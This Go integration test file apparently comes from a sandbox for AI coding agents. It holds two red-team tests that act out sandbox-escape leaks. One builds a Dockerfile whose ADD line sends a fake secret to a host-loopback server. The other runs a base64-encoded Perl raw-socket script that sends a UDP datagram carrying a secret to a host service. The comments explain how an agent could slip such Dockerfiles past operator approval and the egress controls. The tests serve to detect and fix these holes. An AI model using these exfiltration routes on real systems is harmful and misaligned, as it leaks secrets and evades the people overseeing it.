//go:build integration

package integration

import (
	"encoding/base64"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/claude-bottle/claude-bottle/internal/itest"
	"github.com/claude-bottle/claude-bottle/pkg/names"
)

// TestRedTeamCapabilityBuildBypassesProxies is a red-team finding, written
// as the attack: it FAILS while the leak exists. A capability Dockerfile's
// RUN lines run on the bottle's internal network, but its ADD <url> (and
// COPY --from=<image>, and a remote image in FROM-less references) are
// fetched by the engine itself, from the host's network namespace: no
// egress, no allowlist, no DLP, host loopback reachable. The agent proposes
// such a Dockerfile; an operator who approves "ADD <some tarball>" lets the
// agent send data to any host. The same build container also runs with
// Docker's default capabilities and without the bottle's memory/pids limits.
func TestRedTeamCapabilityBuildBypassesProxies(t *testing.T) {
	env := itest.Require(t)
	rig := isolationRig(t, env)
	slug := rig.Plan.Slug

	// A recording server on the host's loopback: nothing in a bottle may
	// ever reach it.
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	assert.NilError(t, err)
	var mu sync.Mutex
	var seen []string
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Method+" "+r.Host+r.URL.RequestURI())
		mu.Unlock()
		_, _ = w.Write([]byte("payload\n"))
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)

	secret := "AKIAREDTEAMLEAK7Q2Z" // stands in for anything the agent read
	df := "ARG " + names.AgentBaseArg + "\nFROM ${" + names.AgentBaseArg + "}\n" +
		"ADD http://127.0.0.1:" + port + "/exfil/" + secret + " /tmp/tool.tgz\n" +
		"RUN echo caps=$(grep CapEff /proc/self/status) mem=$(cat /sys/fs/cgroup/memory.max 2>/dev/null || cat /sys/fs/cgroup/memory/memory.limit_in_bytes) pids=$(cat /sys/fs/cgroup/pids.max 2>/dev/null || cat /sys/fs/cgroup/pids/pids.max)\n"
	_, tag, err := rig.Eng.RebuildAgent(t.Context(), slug, df)
	t.Logf("rebuild: tag=%s err=%v", tag, err)
	mu.Lock()
	defer mu.Unlock()
	t.Logf("host loopback server saw: %q", seen)
	for _, s := range seen {
		assert.Assert(t, !strings.Contains(s, secret), "LEAK: the capability build reached the host's loopback outside every allowlist and carried the secret: %s", s)
	}
	assert.Assert(t, len(seen) == 0, "LEAK: the capability build reached the host's loopback: %q", seen)
}

// TestRedTeamCapabilityBuildRawSocketReachesHost is a red-team finding,
// written as the attack: it FAILS while the leak exists. The build container
// of a capability rebuild runs with Docker's default capabilities, NET_RAW
// among them, on the bottle's internal network. inhibit_ipv4 leaves the
// bridge without an address, but the host still answers ARP there for every
// address it has and delivers frames sent to the bridge's MAC locally (weak
// host model, rp_filter 0, INPUT ACCEPT): a RUN line crafting frames with a
// packet socket sends UDP to any host service, e.g. a resolver that
// forwards to the internet. The same build reports its cgroup limits.
func TestRedTeamCapabilityBuildRawSocketReachesHost(t *testing.T) {
	env := itest.Require(t)
	rig := isolationRig(t, env)
	hosts := hostAddresses(t)
	assert.Assert(t, len(hosts) > 0)
	pc, err := net.ListenPacket("udp4", "0.0.0.0:0")
	assert.NilError(t, err)
	t.Cleanup(func() { _ = pc.Close() })
	port := strconv.Itoa(pc.LocalAddr().(*net.UDPAddr).Port)
	got := make(chan string, 1)
	go func() {
		buf := make([]byte, 2048)
		n, from, err := pc.ReadFrom(buf)
		if err == nil {
			got <- string(buf[:n]) + " from " + from.String()
		}
	}()
	script, err := os.ReadFile("../scripts/redteam/rawudp.pl")
	assert.NilError(t, err)
	secret := "AKIAREDTEAMRAWLEAK9X"
	df := "ARG " + names.AgentBaseArg + "\nFROM ${" + names.AgentBaseArg + "}\n" +
		"RUN echo " + base64.StdEncoding.EncodeToString(script) + " | base64 -d > /tmp/r.pl && " +
		"(grep CapEff /proc/self/status; cat /sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/pids/pids.max /sys/fs/cgroup/memory.max /sys/fs/cgroup/pids.max 2>/dev/null; " +
		"perl /tmp/r.pl " + hosts[0] + " " + port + " " + secret + "); exit 3\n"
	_, _, err = rig.Eng.RebuildAgent(t.Context(), rig.Plan.Slug, df)
	t.Logf("build (fails on purpose, to show its output): %v", err)
	select {
	case s := <-got:
		t.Errorf("LEAK: a capability build's RUN line sent a UDP datagram to host %s: %q", hosts[0], s)
	default:
	}
}
